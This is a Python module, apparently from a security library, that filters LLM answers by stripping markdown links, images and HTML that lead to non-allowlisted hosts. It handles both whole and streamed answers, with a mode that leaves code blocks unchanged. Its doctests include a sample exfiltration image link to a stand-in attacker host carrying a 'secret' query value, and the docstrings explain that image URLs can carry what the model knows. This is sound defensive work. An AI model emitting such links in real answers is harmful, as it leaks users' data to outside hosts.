"""Output filter against data exfiltration through links, images and HTML.

answer in markdown, whole or in pieces → `answer_blocks` → `markdown_view`: where a block leads and
what in it is code → unchanged, or without what leads elsewhere (`link_patterns`)

Code stays as it is, since renderers of markdown show it. What is no whole block is filtered without
regard to code, and so is everything for programs that show an answer as HTML (`code="filter"`).
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from typing import Final, Literal

from mlsecops._choices import checked, one_of
from mlsecops._repr import concise_repr
from mlsecops.errors import UsageError
from mlsecops.llm.guard.answer_blocks import AnswerBlock, AnswerBlocks
from mlsecops.llm.guard.link_hosts import Hosts
from mlsecops.llm.guard.link_patterns import REMOVED, LinkRules
from mlsecops.llm.guard.markdown_view import View, view

__all__ = ["AnswerFilter", "Filtered", "OutputFilter"]

_MASKS: Final = 0xF0000  # code point; start of supplementary private use area A (Unicode, 23.5)
_TARGET: Final = r"[^\s<>()\\]*(?:\([^\s<>()\\]*\)[^\s<>()\\]*)*"
_IMAGE: Final = rf"!\[[^\[\]\n]*\]\((?P<{{}}>{_TARGET})(?: +\"[^\"\n]*\")?\)"
_LINK: Final = re.compile(
    rf"(?:\[(?:{_IMAGE.format('image')}|[^\[\]!]{{0,500}})\]\((?P<link>{_TARGET})\))"
)
_TAG_START: Final = re.compile(r"(?m)^([ \t>*+\-0-9.)]*)<")


@concise_repr()
@dataclass(frozen=True, slots=True, kw_only=True)
class Filtered:
    """An answer that leads to allowed hosts only.

    Attributes:
        text: The answer to show.
        removed: Kind (`link`, `image`, `definition`, `html`, `entity`, `hidden`) → number removed
            or escaped; `answer` if a whole block was removed.
        changed: Whether the text differs from the answer.
    """

    text: str
    removed: Mapping[str, int] = field(default_factory=dict)
    changed: bool = False


@concise_repr("_links", "_images")
class OutputFilter:
    """Removes everything from answers that leads to a host not on the allowlist.

    Args:
        links: Hosts that links may lead to.
        images: Hosts that images may come from. An image is fetched without a click, and its URL
            can carry what the model knows.
        code: `"keep"` leaves the code of a markdown answer as it is; `"filter"` filters it, too,
            for programs that show answers as HTML or make links of addresses in code.

    Raises:
        UsageError: An entry is not a host.

    Examples:
        >>> OutputFilter(links=["*.example.com"]).clean("[a](https://docs.example.com/)").text
        '[a](https://docs.example.com/)'
    """

    @checked
    def __init__(
        self,
        *,
        links: Iterable[str] = (),
        images: Iterable[str] = (),
        code: Literal["keep", "filter"] = "keep",
    ) -> None:
        self._links = Hosts.of(links)
        self._images = Hosts.of(images)
        self._keeps_code = one_of("code", code, ("keep", "filter")) == "keep"

    def clean(self, text: str) -> Filtered:
        """Remove or escape whatever leads elsewhere in a whole answer.

        Raises:
            UsageError: `text` is not a str.

        Examples:
            >>> dict(OutputFilter().clean("See ![x](https://evil.example/?q=secret)").removed)
            {'image': 1}
        """
        if not isinstance(text, str):
            raise UsageError(f"text: expected str, got {type(text).__name__}")
        stream = self.stream()
        shown = stream.feed(text) + stream.close()
        return Filtered(text=shown, removed=stream.removed, changed=shown != text)

    def stream(self) -> AnswerFilter:
        """A filter for one answer that comes in pieces; it holds back less than 4 KiB.

        Examples:
            >>> stream = OutputFilter().stream()
            >>> stream.feed("See ![x](https://ev") + stream.feed("il.example/).") + stream.close()
            'See \u2039image removed\u203a.'
        """
        rules = LinkRules(links=self._links, images=self._images)
        return AnswerFilter(rules, keeps_code=self._keeps_code)


@concise_repr("removed")
class AnswerFilter:
    """A filter of one answer in pieces; made by `OutputFilter.stream`."""

    def __init__(self, rules: LinkRules, *, keeps_code: bool) -> None:
        self._rules, self._keeps_code = rules, keeps_code
        self._blocks = AnswerBlocks()
        self._removed: Counter[str] = Counter()
        self._closed = False

    @property
    def removed(self) -> dict[str, int]:
        """Kind → number removed or escaped so far."""
        hidden = {"hidden": self._blocks.removed} if self._blocks.removed else {}
        return {**hidden, **self._removed}

    def feed(self, text: str) -> str:
        """Take a piece of the answer, and return what can be shown.

        Raises:
            UsageError: It is not a str, or the answer was closed.
        """
        if not isinstance(text, str):
            raise UsageError(f"text: expected str, got {type(text).__name__}")
        if self._closed:
            raise UsageError("feed: expected an open answer, got one that was closed")
        return "".join(map(self._shown, self._blocks.feed(text)))

    def close(self) -> str:
        """Return the rest of the answer."""
        self._closed = True
        return "".join(map(self._shown, self._blocks.close()))

    def _shown(self, block: AnswerBlock) -> str:
        text = block.text
        if block.kind == "code" and self._keeps_code:
            return text
        if block.escape:
            escaped = _TAG_START.sub(r"\1&lt;", text)
            self._removed["html"] += escaped != text
            text = escaped
        if block.kind != "block" or not self._keeps_code:
            return self._rules.cleaned(text, self._removed)
        seen = view(text, self._rules)
        return text if seen.allowed else self._filtered(text, seen)

    def _filtered(self, text: str, seen: View) -> str:
        """A block without what leads elsewhere, and with its code where that is safe."""
        masked, code = _masked(text, seen)
        masked = _with_links_masked(masked, code, self._rules)
        for attempt, known in ((masked, code), (text, {})) if code else ((text, {}),):
            removed: Counter[str] = Counter()
            cleaned = self._rules.cleaned(attempt, removed).translate(known)
            if view(cleaned, self._rules).allowed:
                self._removed += removed
                return cleaned
        self._removed["answer"] += 1
        return REMOVED.format("text") + ("\n" if text.endswith("\n") else "")


def _masked(text: str, seen: View) -> tuple[str, dict[int, str]]:
    """A block with a private sign for each piece of code, and the pieces by their signs."""
    known: dict[int, str] = {}
    parts, place = [], 0
    for pattern in _code_patterns(seen):
        found = pattern.search(text, place)
        sign = _MASKS + len(known)
        if found is not None and chr(sign) not in text:
            known[sign] = found[0]
            parts += [text[place : found.start()], chr(sign)]
            place = found.end()
    return "".join([*parts, text[place:]]), known


def _with_links_masked(text: str, known: dict[int, str], rules: LinkRules) -> str:
    """A block with a private sign for each link and image that is allowed as well."""

    def masked(found: re.Match[str]) -> str:
        image, link = found["image"], found["link"]
        allowed = (image is None or rules.images.allow(image)) and (
            link is None or rules.allows_target(link)
        )
        sign = _MASKS + len(known)
        if not allowed or chr(sign) in text:
            return found[0]
        known[sign] = found[0].translate(known)
        return chr(sign)

    return _LINK.sub(masked, text)


def _code_patterns(seen: View) -> Iterable[re.Pattern[str]]:
    for kind, markup, content in seen.code or ():
        if kind == "code_inline":
            words = r"\s[ \t>]*".join(map(re.escape, content.split(" ")))
            fence = re.escape(markup)
            yield re.compile(rf"(?<!`){fence}\s?{words}\s?{fence}(?!`)")
        else:
            for line in content.splitlines():
                if line.strip():
                    yield re.compile(re.escape(line))
